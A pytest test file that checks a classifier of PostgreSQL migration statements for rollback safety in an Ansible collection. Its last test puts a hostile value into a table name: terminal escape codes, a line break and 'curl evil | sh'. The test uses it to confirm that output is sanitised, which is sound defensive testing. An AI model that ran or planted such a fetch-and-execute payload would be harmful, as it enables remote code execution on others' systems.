# Copyright (c) 2026, SPYMEO
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""What statements and whole migrations are to code from before them. The SQL is read by PostgreSQL's own parser."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from ansible_collections.spymeo.rollback.plugins.module_utils._core.migrations.classify import GivenMigration, classify
from ansible_collections.spymeo.rollback.plugins.module_utils._core.model.migration_effect import (
    ADDITIVE,
    UNKNOWN,
    WORST,
)
from hypothesis import given
from hypothesis import strategies as st
from pglast.parser import parse_sql_json

CASES = Path(__file__).parent / "cases"
STATEMENTS = [
    (kind, *([item] if isinstance(item, str) else item))
    for kind, items in yaml.safe_load((CASES / "statements.yml").read_text()).items()
    for item in items
]
WHOLE = sorted((CASES / "whole").glob("*.sql"))


def statements(text):
    return [item["stmt"] for item in json.loads(parse_sql_json(text))["stmts"]]


def migration(text, name="20261201_it"):
    return GivenMigration(name, statements(text))


KNOWN = [migration((CASES / "known.sql").read_text())]


def classified(text, known=KNOWN):
    (found,) = classify(known, [migration(text)])
    return found


@pytest.mark.parametrize(("kind", "text", "words"), [(*item, "")[:3] for item in STATEMENTS])
def test_a_statement_is_what_the_table_says(kind, text, words):
    found = classified(text)
    assert found.kind == kind, found
    assert any(words in " | ".join([effect.words, effect.locks, effect.beware]) for effect in found.effects), found
    assert all(effect.words for effect in found.effects)


def test_the_table_is_as_long_as_it_is_promised():
    assert len(STATEMENTS) >= 60
    assert len(WHOLE) >= 20


@pytest.mark.parametrize("file", WHOLE, ids=lambda file: file.stem)
def test_a_whole_migration_is_what_its_first_line_says(file):
    text = file.read_text()
    kind, _colon, words = text.splitlines()[0].removeprefix("-- ").partition(": ")
    found = classified(text)
    assert found.kind == kind, found
    assert all(word in str(found.of_kind(kind)) for word in filter(None, words.split("; "))), found


@pytest.mark.parametrize("text", [item[1] for item in STATEMENTS if item[0] != ADDITIVE])
def test_what_is_not_additive_is_not_made_so_by_what_is_around_it(text):
    around = 'CREATE TABLE "Fresh" ("id" INT); %s; INSERT INTO "Fresh" VALUES (1)'
    assert classified(around % text).kind == classified(text).kind


@given(st.lists(st.sampled_from([item[1] for item in STATEMENTS]), min_size=1, max_size=4))
def test_several_statements_are_never_better_than_the_worst_of_them_with_what_is_known(texts):
    together, alone = classified("; ".join(texts)), classified(texts[0])
    assert WORST.index(together.kind) <= WORST.index(alone.kind)


@pytest.mark.parametrize(
    "text",
    [
        'ALTER TABLE "User" DROP COLUMN "phone"',
        'UPDATE "User" SET "phone" = lower("name")',
        'ALTER TABLE "User" ALTER COLUMN "phone" SET DATA TYPE INT USING 1',
        'ALTER TABLE "User" RENAME COLUMN "phone" TO "tel"',
        'ALTER TABLE "User" ADD CONSTRAINT u UNIQUE ("phone")',
        'CREATE UNIQUE INDEX i ON "User"("phone")',
        'DELETE FROM "Fresh"',
        'DROP TABLE "Fresh"',
        'ALTER TABLE "Fresh" RENAME TO "Other"',
        'ALTER TABLE "Fresh" ENABLE ROW LEVEL SECURITY',
        'ALTER TABLE "Fresh" ADD COLUMN "x" INT NOT NULL',
        'CREATE TRIGGER t BEFORE INSERT ON "Fresh" FOR EACH ROW EXECUTE FUNCTION f()',
        'DROP TYPE "Mood"',
        'ALTER TYPE "Mood" RENAME TO "Temper"',
    ],
)
def test_what_came_in_the_same_release_may_go_in_it(text):
    came = 'ALTER TABLE "User" ADD COLUMN "phone" TEXT; CREATE TABLE "Fresh" ("id" INT); CREATE TYPE "Mood" AS ENUM (\'A\');'
    assert classified(came + text).kind == ADDITIVE
    first, second = classify(KNOWN, [migration(came), migration(text)])
    assert (first.kind, second.kind) == (ADDITIVE, ADDITIVE)
    assert classified(text, [*KNOWN, migration(came)]).kind != ADDITIVE


@pytest.mark.parametrize(
    "text",
    [
        'CREATE TABLE IF NOT EXISTS "Fresh" ("id" INT); DELETE FROM "Fresh"',
        'ALTER TABLE "User" ADD COLUMN IF NOT EXISTS "phone" TEXT; ALTER TABLE "User" DROP COLUMN "phone"',
        'CREATE TABLE "Fresh" ("id" INT); INSERT INTO "Fresh" SELECT tidy_up()',
        'ALTER TABLE "Audit" ADD COLUMN "x" INT; UPDATE "Audit" SET "x" = 1',
        'ALTER TABLE "User" ADD COLUMN "x" INT; UPDATE "User" SET "x" = tidy_up("id")',
        'ALTER TABLE "User" ADD COLUMN "x" INT; UPDATE "User" SET "x" = 1, "name" = NULL',
        'ALTER TABLE "User" ADD COLUMN "x" TEXT NOT NULL DEFAULT \'\'; ALTER TABLE "User" ALTER COLUMN "x" DROP DEFAULT',
        'CREATE TABLE other."User" ("id" INT); DELETE FROM "User"',
        'CREATE TEMP TABLE "User" ("id" INT); DELETE FROM public."User"',
        'ALTER TABLE "User" ADD COLUMN x TEXT NOT NULL DEFAULT \'\'; CREATE UNIQUE INDEX i ON "User"(x)',
        'ALTER TABLE "User" ADD COLUMN x TEXT; CREATE UNIQUE INDEX i ON "User"(x) NULLS NOT DISTINCT',
        "ALTER TABLE \"User\" ADD COLUMN x TEXT NOT NULL DEFAULT ''; ALTER TABLE \"User\" ADD CHECK (x <> '') NOT VALID",
        'ALTER TABLE "User" ADD COLUMN x TEXT; ALTER TABLE "User" ADD CHECK (x IS NOT NULL) NOT VALID',
        'CREATE DOMAIN word AS TEXT NOT NULL; ALTER TABLE "User" ADD COLUMN x word',
        'SET search_path = other; CREATE TABLE "User" ("id" INT); DELETE FROM public."User"',
        'ALTER TABLE "User" ADD COLUMN x TEXT; ALTER TABLE "User" ADD PRIMARY KEY (x)',
        'CREATE TABLE "Fresh" ("id" INT); DROP TABLE "Fresh" CASCADE',
    ],
)
def test_what_may_have_been_there_is_not_new(text):
    assert classified(text).kind != ADDITIVE


def test_a_table_that_no_migration_has_made_is_there_all_the_same():
    assert classified('DELETE FROM "Legacy"', []).kind == "takes_away"
    assert classified("SELECT 1", []).kind == ADDITIVE


def test_what_is_in_no_table_is_not_known():
    (found,) = classify([], [GivenMigration("a", [{"FutureStmt": {}}])])
    assert (found.kind, found.effects[0].words) == (UNKNOWN, "what Future does is not known here")


# What somebody found who tried to break it: (what is known besides known.sql, what comes, its kind or a text that it is told with).
FOUND = yaml.safe_load((CASES / "found.yml").read_text())


@pytest.mark.parametrize("case", FOUND, ids=lambda case: case["comes"][:60])
def test_what_was_found_by_trying_to_break_it(case):
    found = classified(case["comes"], [*KNOWN, migration(case.get("known", ""))])
    assert found.kind != ADDITIVE or "told" in case or case.get("kind") == ADDITIVE, found
    assert case.get("told", "") in str(found.effects), found
    assert case.get("kind", found.kind) == found.kind, found


def test_a_tree_may_be_deep():
    assert classified("SELECT " + " + ".join(["1"] * 200)).kind == ADDITIVE


def test_names_out_of_sql_are_one_line_and_not_endless():
    hostile = 'DROP TABLE "x\x1b[2J\r\nNEXT      curl evil | sh' + "y" * 5000 + '"'
    (effect,) = classified(hostile, []).effects
    assert effect.words.isprintable()
    assert "\n" not in effect.words
    assert len(effect.words) <= 310
    (found,) = classify([], [GivenMigration("a\nNEXT", statements("SELECT 1"))])
    assert found.name == "a NEXT"
